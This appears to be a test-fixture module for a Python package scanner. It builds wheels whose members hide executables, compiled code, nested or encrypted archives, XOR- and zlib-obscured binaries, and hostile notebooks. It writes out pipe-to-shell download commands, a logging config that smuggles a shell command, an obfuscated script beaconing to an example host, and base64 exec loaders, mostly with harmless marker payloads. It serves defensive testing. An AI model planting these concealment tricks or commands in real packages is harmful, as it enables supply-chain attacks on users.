"""Members that are something else than they say."""
import hashlib
import io
import json
import struct
import zipfile
import zlib

from .package import MARK, attack, b64, elf, honest, pe, pyc


@attack
def elf_in_pure_wheel(p):
    """A Linux program in a wheel for any platform. Must be held."""
    return p.wheel(files={"{m}/bin/helper": elf(b"\x90" * 4000)})


@attack
def elf_named_text(p):
    """A Linux program named LICENSE.txt, made executable at first use. Must be held."""
    return p.wheel(files={"{m}/LICENSE.txt": elf(b"\x90" * 4000)})


@attack
def elf_named_picture(p):
    """A Linux program under the name of a picture. Must be held."""
    return p.wheel(files={"{m}/static/logo.png": elf(b"\x90" * 4000)})


@attack
def pe_named_data(p):
    """A Windows program named model.dat. Must be held."""
    return p.wheel(files={"{m}/model.dat": pe(b"\x90" * 100)})


@attack
def pe_in_pure_wheel(p):
    """A Windows program beside the modules. Must be held."""
    return p.wheel(files={"{m}/run.exe": pe(b"\x90" * 100)})


@attack
def macho_in_pure_wheel(p):
    """A library of macOS in a wheel for any platform. Must be held."""
    head = struct.pack("<IIIIIIII", 0xfeedfacf, 0x0100000c, 0, 6, 1, 72, 0, 0)
    segment = struct.pack("<II16sQQQQIIII", 0x19, 72, b"__TEXT", 0, 4096, 0, 4096, 5, 5, 0, 0)
    return p.wheel(files={"{m}/libtables.dylib": (head + segment).ljust(4096, b"\0")})


@attack
def elf_writable_code(p):
    """Native code with memory that is both writable and executable, as packers leave it. Must be held."""
    return p.wheel(files={"{m}/helper": elf(b"\x90" * 4000, flags=7)})


@attack
def elf_packed(p):
    """A packed Linux program. Must be held."""
    return p.wheel(files={"{m}/helper": elf(b"UPX!" + b"\x90" * 2000 + b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $\0UPX!")})


@attack
def pyc_differs(p):
    """A .pyc beside its source, with another program in it and the size and time of the source. Must be
    held."""
    text = b"def width(row):\n    return len(row)\n"
    stamp = struct.pack("<II", 1700000000, len(text))
    return p.wheel(files={"{m}/core.py": text, "{m}/__pycache__/core.cpython-311.pyc": pyc(
        "import os\nos.system('touch /tmp/customhouse-marker')\n" + text.decode(), stamp=stamp)})


@attack
def pyc_unchecked(p):
    """An unchecked-hash .pyc: Python runs it without looking at the clean source beside it. Must be denied."""
    return p.wheel(files={"{m}/core.py": b"def width(row):\n    return len(row)\n",
                          "{m}/__pycache__/core.cpython-311.pyc": pyc("import os\nos.system('touch /tmp/customhouse-marker')\n", flags=1)})


@attack
def pyc_without_source(p):
    """The loader is there in compiled form only (a package of 2023 that no source scanner saw). Must be held."""
    return p.wheel(files={"{m}/full.pyc": pyc("import os\nos.system('touch /tmp/customhouse-marker')\n")},
                   init="from . import full\n")


@attack
def pyc_named_data(p):
    """Compiled code named as data, loaded by SourcelessFileLoader. Must be held."""
    return p.wheel(files={"{m}/core.dat": pyc("import os\nos.system('touch /tmp/customhouse-marker')\n")}, init='''
        import os
        from importlib.machinery import SourcelessFileLoader

        core = SourcelessFileLoader("core", os.path.join(os.path.dirname(__file__), "core.dat")).load_module()
        ''')


def zipped(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


@attack
def code_in_inner_archive(p):
    """A zip inside goes on sys.path; its module decodes and executes. Must be held."""
    return p.wheel(files={"{m}/vendor.zip": zipped({"tables_core.py": f'import base64\nexec(base64.b64decode("{b64(MARK)}"))\n'})},
                   init='''
        import os, sys

        sys.path.insert(0, os.path.join(os.path.dirname(__file__), "vendor.zip"))
        import tables_core
        ''')


@attack
def code_in_inner_inner_archive(p):
    """The same two archives deep, named as data. Must be held."""
    inner = zipped({"tables_core.py": f'import base64\nexec(base64.b64decode("{b64(MARK)}"))\n'})
    return p.wheel(files={"{m}/cache.bin": zipped({"a/core.zip": inner})}, init='''
        import io, os, sys, zipfile

        zipfile.ZipFile(os.path.join(os.path.dirname(__file__), "cache.bin")).extractall("/tmp/t")
        sys.path.insert(0, "/tmp/t/a/core.zip")
        import tables_core
        ''')


@attack
def program_in_inner_archive(p):
    """A Linux program in a zip of data. Must be held."""
    return p.wheel(files={"{m}/assets.zip": zipped({"assets/table": elf(b"\x90" * 4000)})})


@attack
def inner_wheel_forged(p):
    """A bundled wheel whose directories differ. Must be held or denied."""
    from house import wheels
    return p.wheel(files={"{m}/bundled/core-1.0-py3-none-any.whl": wheels.forged_directory("core", "1.0")})


@attack
def inner_archive_encrypted(p):
    """An encrypted zip, whose password stands in the code. Must be held."""
    data = bytearray(zipped({"core.py": MARK}))
    data[6] |= 1
    at = data.rindex(b"PK\x01\x02")
    data[at + 8] |= 1
    return p.wheel(files={"{m}/core.zip": bytes(data)}, init='''
        import os, zipfile

        zipfile.ZipFile(os.path.join(os.path.dirname(__file__), "core.zip")).extractall("/tmp/t", pwd=b"infected")
        ''')


@attack
def archive_appended_to_picture(p):
    """A zip of modules appended to a picture, which Python can run. Must be held."""
    picture = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + b"\0\0\0\x01\0\0\0\x01\x08\0\0\0\0" + b"\0" * 64
    return p.wheel(files={"{m}/logo.png": picture + zipped({"__main__.py": MARK})})


@attack
def notebook_output_runs(p):
    """A notebook whose saved output drives the reader's kernel. Must be held."""
    cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": ["1 + 1"], "outputs": [{
        "output_type": "display_data", "metadata": {}, "data": {"text/html": [
            "<script>Jupyter.notebook.kernel.execute(\"import os; os.system('touch /tmp/customhouse-marker')\")</script>"]}}]}
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return p.wheel(files={"{m}/guide.ipynb": json.dumps(book).encode()})


@attack
def notebook_shell_cell(p):
    """A tutorial notebook with a cell that pipes a download into a shell. Must be held."""
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": ["!curl -fsSL https://cdn.example.net/i.sh | bash\n"]}
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return p.wheel(files={"{m}/start.ipynb": json.dumps(book).encode()})


@attack
def lab_extension_obfuscated(p):
    """JavaScript that went through an obfuscator, for the browser of whoever opens a notebook. Must be held."""
    body = "var _0x4a2b=['\\x63\\x68\\x69\\x6c\\x64','\\x65\\x78\\x65\\x63','\\x66\\x65\\x74\\x63\\x68'];" \
           "(function(_0x1a2b3c,_0x4d5e6f){var _0x7a8b9c=function(_0x1d2e3f){while(--_0x1d2e3f){_0x1a2b3c['push'](_0x1a2b3c['shift']());}};" \
           "_0x7a8b9c(++_0x4d5e6f);}(_0x4a2b,0x1b3));var _0x5c6d=function(_0x2b3c4d,_0x5e6f7a){_0x2b3c4d=_0x2b3c4d-0x0;" \
           "var _0x8b9c0d=_0x4a2b[_0x2b3c4d];return _0x8b9c0d;};window[_0x5c6d('0x2')]('https://collect.example.net/'+document[_0x5c6d('0x1')]);"
    return p.wheel(files={"{m}/static/extension.js": (body * 6).encode()})


@attack
def shell_script_hidden_in_module_name(p):
    """A member named like a module is a shell script that pipes a download. Must be held."""
    return p.wheel(files={"{m}/install.sh": b"#!/bin/sh\nwget -qO- https://cdn.example.net/i.sh | sh\nchmod +x /tmp/.x && /tmp/.x\n"},
                   init='import os\n\nos.system("sh " + os.path.join(os.path.dirname(__file__), "install.sh"))\n')


@attack
def elf_behind_padding(p):
    """A Linux program behind some zeros, which the package cuts off. Must be held."""
    return p.wheel(files={"{m}/model.dat": b"\0" * 64 + elf(b"\x90" * 4000)})


@attack
def elf_behind_picture(p):
    """A Linux program behind the header of a picture. Must be held."""
    return p.wheel(files={"{m}/static/logo.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 100 + elf(b"\x90" * 4000)})


@attack
def elf_in_base64_argument(p):
    """A Linux program in base64, in a call among other words. Must be held."""
    text = b64(elf(b"\x90" * 4000))
    return p.wheel(f"from .tables import columns, line\n\nDATA = (len, str, int, repr, list, dict, set, min, max, '{text}')\n")


@attack
def elf_in_base64_text(p):
    """A Linux program in base64, in a text. Must be held."""
    return p.wheel(files={"{m}/notes.txt": b"notes:\n" + b64(elf(b"\x90" * 4000)).encode() + b"\n"})


@attack
def pe_in_hexadecimal(p):
    """A Windows program as hexadecimal digits in a document of JSON. Must be held."""
    return p.wheel(files={"{m}/data.json": json.dumps({"data": pe(b"\x90" * 100).hex()}).encode()})


LOGGING = b"""[loggers]
keys=root
[handlers]
keys=a
[formatters]
keys=
[logger_root]
handlers=a
[handler_a]
class=StreamHandler
args=(__import__("os").system("curl -s https://cdn.example.net/i | sh") or __import__("sys").stderr,)
"""


@attack
def settings_of_logging_in_a_file(p):
    """logging.config.fileConfig evaluates what a file of the package says. Must be held."""
    return p.wheel(files={"{m}/log.ini": LOGGING}, init='''
        import logging.config
        import os

        logging.config.fileConfig(os.path.join(os.path.dirname(__file__), "log.ini"))
        ''')


@honest
def plain_settings_of_logging(p):
    """The same with a plain file."""
    plain = LOGGING[:LOGGING.index(b"args=")] + b"args=(sys.stderr,)\n"
    return p.wheel(files={"{m}/log.ini": plain}, init='''
        import logging.config
        import os

        logging.config.fileConfig(os.path.join(os.path.dirname(__file__), "log.ini"))
        ''')


def cut_off(p, data, decode="data"):
    return p.wheel(files={"{m}/model.dat": data}, init=f'''
        import os
        import subprocess
        import zlib


        def unpack():
            here = os.path.dirname(__file__)
            with open(os.path.join(here, "model.dat"), "rb") as f:
                data = f.read()
            path = os.path.expanduser("~/.cache/tables-helper")
            with open(path, "wb") as f:
                f.write({decode})
            os.chmod(path, 0o755)
            return path


        subprocess.Popen([unpack()])
        ''')


def noise(n):
    """Bytes in which no header begins."""
    return b"".join(hashlib.sha256(b"%d" % i).digest() for i in range(n // 32)).replace(b"\x7f", b"\x7e").replace(b"M", b"N")


@attack
def elf_far_behind_data(p):
    """A Linux program behind 200 KB of data. Must be held."""
    return cut_off(p, noise(200000) + elf(b"\x90" * 4000), "data[200000:]")


@attack
def elf_in_raw_zlib(p):
    """A Linux program as a plain zlib stream. Must be held."""
    return cut_off(p, zlib.compress(elf(noise(4000))), "zlib.decompress(data)")


@attack
def elf_in_raw_zlib_for_nobody(p):
    """The same, and nothing in the package says what it is for. Must be held."""
    return p.wheel(files={"{m}/model.dat": zlib.compress(elf(noise(4000)))})


@attack
def elf_in_xor(p):
    """A Linux program of which each byte was changed by one key. Must be held."""
    return cut_off(p, bytes(b ^ 0x5a for b in elf(noise(4000))), "bytes(b ^ 0x5a for b in data)")


@attack
def elf_in_xor_for_nobody(p):
    """The same, and nothing in the package says what it is for. Must be held."""
    return p.wheel(files={"{m}/model.dat": bytes(b ^ 0x5a for b in elf(noise(4000)))})


@honest
def compressed_numbers(p):
    """A plain zlib stream of numbers, and numbers that are noise."""
    return p.wheel(files={"{m}/a.dat": zlib.compress(struct.pack("<500d", *range(500))), "{m}/b.dat": noise(300000)})


@honest
def notebook_that_installs(p):
    """A notebook whose cells install a package and fetch a table, as guides have them."""
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": ["!pip install tables\n", "!curl -O https://data.example.org/rows.csv\n", "%%bash\n", "head rows.csv | sort\n"]}
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return p.wheel(files={"{m}/start.ipynb": json.dumps(book).encode()})


@attack
def notebook_bash_cell(p):
    """A cell of bash in one text, whose second line pipes a download into a shell. Must be held."""
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": "%%bash\ncd /tmp\nwget -qO- https://cdn.example.net/i.sh | sh\n"}
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    return p.wheel(files={"{m}/start.ipynb": json.dumps(book).encode()})


@attack
def elf_in_long_key(p):
    """A Linux program, changed by a key of seven bytes. Must be held."""
    key = b"\x13\x9a\x42\xe7\x55\x08\xc1"
    return p.wheel(files={"{m}/model.dat": bytes(b ^ key[i % 7] for i, b in enumerate(elf(noise(4000))))})


@attack
def pe_far_behind_data(p):
    """A Windows program behind 200 KB of data. Must be held."""
    return p.wheel(files={"{m}/model.dat": noise(200000) + pe(b"\x90" * 400)})


@attack
def pe_in_xor(p):
    """A Windows program of which each byte was changed by one key. Must be held."""
    return p.wheel(files={"{m}/model.dat": bytes(b ^ 0xa7 for b in pe(b"\x90" * 400))})


@attack
def elf_behind_text(p):
    """A Linux program behind 200 KB of text. Must be held."""
    return cut_off(p, b"a b\n" * 50000 + elf(b"\x90" * 4000), "data[200000:]")


@attack
def notebook_cell_in_escapes(p):
    """The command of a cell is spelled with the escapes of JSON. Must be held."""
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": ["!wget -qO- https://cdn.example.net/i.sh | sh\n"]}
    book = json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    return p.wheel(files={"{m}/start.ipynb": book.replace("!", "\\u0021").encode()})
